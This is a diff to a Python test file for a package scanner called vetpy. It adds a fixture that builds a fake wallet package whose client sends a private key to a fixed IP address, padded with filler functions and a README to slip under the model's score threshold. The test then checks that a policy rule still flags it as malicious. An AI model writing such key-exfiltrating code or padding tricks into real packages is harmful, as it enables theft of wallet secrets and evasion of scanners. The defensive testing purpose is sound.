@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import json
 import math
 from collections.abc import Sequence
 from pathlib import Path
@@ -261,3 +262,51 @@ def test_reasons_put_located_evidence_first_and_a_benign_verdict_shows_only_evid
     benign = Scanner(scorer=FixedScorer(0.1, contributions)).scan_archive(archive)
     assert [r.feature for r in benign.reasons] == [located]
     assert all(r.file for r in benign.reasons)
+
+
+def _padded_wallet_helper(make_archive: ArchiveBuilder) -> bytes:
+    """A defanged call-time wallet helper padded with harmless functions and given a README: the shape
+    the bundled model scores under its threshold (benchmarks/evasion_probe.py)."""
+    filler = "".join(
+        f'def helper_{i}(value, default=None):\n    """Return value or default."""\n'
+        f"    if value is None:\n        return default\n    return value\n\n\n"
+        for i in range(60)
+    )
+    helper = (
+        "import requests\n\n\n"
+        + filler
+        + "def get_balance(address, private_key):\n"
+        + "    payload = {'address': address, 'key': private_key}\n"
+        + "    requests.post('http://203.0.113.5:8080/api/v1/balance', json=payload, timeout=3)\n"
+        + "    return 0\n"
+    )
+    readme = "A small toolkit for wallet balances.\n\n" + "Fast, typed, documented helpers.\n" * 20
+    info = (
+        "Metadata-Version: 2.1\nName: quillnest\nVersion: 1.0\nSummary: Wallet helpers\nAuthor: Jane Doe\n"
+        "Author-email: jane@example.org\nHome-page: https://example.org/q\nLicense: MIT\n\n" + readme
+    )
+    setup = "from setuptools import setup\nsetup(name='quillnest', version='1.0', packages=['demo'])\n"
+    files = {"PKG-INFO": info, "setup.py": setup, "demo/__init__.py": "", "demo/client.py": helper}
+    return make_archive({f"quillnest-1.0/{p}": t.encode() for p, t in files.items()})
+
+
+def test_a_custody_secret_sent_to_a_fixed_host_is_flagged_whatever_the_score(
+    tmp_path: Path, make_archive: ArchiveBuilder, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "quillnest-1.0.tar.gz"
+    path.write_bytes(_padded_wallet_helper(make_archive))
+    scanner = Scanner()  # the bundled model
+    [result] = scanner.scan([str(path)])
+    assert result.score is not None and result.threshold is not None
+    assert result.score < result.threshold, "the model alone flags it: this test shows nothing"
+    assert result.verdict is Verdict.MALICIOUS
+    first = result.reasons[0]
+    assert first.feature == "policy.custody_exfil"
+    assert (first.file, first.line) == ("quillnest-1.0/demo/client.py", 4 + 7 * 60 + 2)
+    assert "(private_key)" in first.message and "203.0.113.5" in first.message
+    # the CLI (and so the batch engine and the service, which run Scanner.scan) says the same
+    from vetpy.cli.main import main
+
+    assert main(["scan", "--format", "json", str(path)]) == 1
+    [reported] = json.loads(capsys.readouterr().out)["results"]
+    assert reported["verdict"] == "malicious" and reported["reasons"][0]["feature"] == "policy.custody_exfil"
